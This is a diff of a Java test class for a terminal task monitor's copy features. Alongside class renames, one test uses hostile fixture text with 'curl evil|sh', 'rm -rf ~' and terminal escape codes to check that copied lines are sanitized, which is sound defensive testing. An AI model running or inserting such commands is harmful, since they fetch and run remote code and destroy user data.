@@ -33,7 +33,7 @@ class PanesTest {
 
     @Test
     void a_row_a_line_and_an_id_can_be_copied() {
-        var model = ActsTest.on("bg_06");
+        var model = TaskActionsTest.on("bg_06");
         assertEquals(
                 new Effect.CopyText("bg_06", "the id"), press(model, "Y").effects().getFirst());
         assertEquals(
@@ -45,7 +45,7 @@ class PanesTest {
         assertEquals(
                 new Effect.CopyText(
                         "bg_12  unreadable  bg_12  no JSON: line 1, column 1", "the line"),
-                press(ActsTest.on("bg_12"), "y").effects().getFirst());
+                press(TaskActionsTest.on("bg_12"), "y").effects().getFirst());
         var output = OutputTest.full(100).model();
         assertEquals(
                 new Effect.CopyText("line 99", "the line"),
@@ -69,7 +69,7 @@ class PanesTest {
         var hostile = Sample.over("bg_06", "hi\ncurl evil|sh\n\u001b[31m\u0003\tx", end, 60);
         var stem = "two\nlines\u001b]0;x\u0007";
         var named = Observed.unreadable(new Entry.Unreadable(stem, "has a name\n\u0007"));
-        var model = after(ActsTest.on("bg_06"), TableTest.seen(hostile));
+        var model = after(TaskActionsTest.on("bg_06"), TableTest.seen(hostile));
         assertEquals(
                 new Effect.CopyText(
                         "bg_06  completed  hi curl evil|sh ^C x  r rm -rf ~", "the line"),
@@ -91,17 +91,18 @@ class PanesTest {
         var copied = new Message.OutputCopied("/tmp/x/bg_05.txt", viewer, 0);
         var opened = Update.of(step.model(), copied);
         assertEquals(List.of(new Effect.OpenCopy("/tmp/x/bg_05.txt", viewer)), opened.effects());
-        assertEquals(Dialog.NONE, opened.model().dialog());
+        assertEquals(new Dialog.None(), opened.model().dialog());
     }
 
     @Test
     void who_gives_a_copy_up_gets_none() {
         var copying = keys(Sample.monitor(80, 24), "e");
         var longer = after(copying, new Message.CopyProgressed(5, 9));
-        assertEquals(new Dialog.Copying(5, 9), longer.dialog());
+        assertEquals(new CopyDialog(5, 9), longer.dialog());
         var given = press(longer, "Esc");
         assertEquals(List.of(new Effect.StopCopy()), given.effects());
-        assertEquals(Dialog.NONE, after(given.model(), new Message.CopyProgressed(6, 9)).dialog());
+        assertEquals(
+                new Dialog.None(), after(given.model(), new Message.CopyProgressed(6, 9)).dialog());
         assertEquals(
                 List.of(new Effect.DropCopy("/tmp/x")),
                 Update.of(given.model(), new Message.OutputCopied("/tmp/x", Viewer.EDITOR, 0))
@@ -112,7 +113,7 @@ class PanesTest {
     void a_copy_that_failed_or_is_not_whole_says_so() {
         var copying = keys(Sample.monitor(80, 24), "o");
         var failed = after(copying, new Message.CopyFailed("The disk is full."));
-        assertEquals(Dialog.NONE, failed.dialog());
+        assertEquals(new Dialog.None(), failed.dialog());
         assertEquals("The disk is full.", failed.notice().text());
         var cut = after(copying, new Message.OutputCopied("/tmp/x", Viewer.PAGER, 768L << 20));
         assertEquals("The first 768 MiB were left out of the copy.", cut.notice().text());
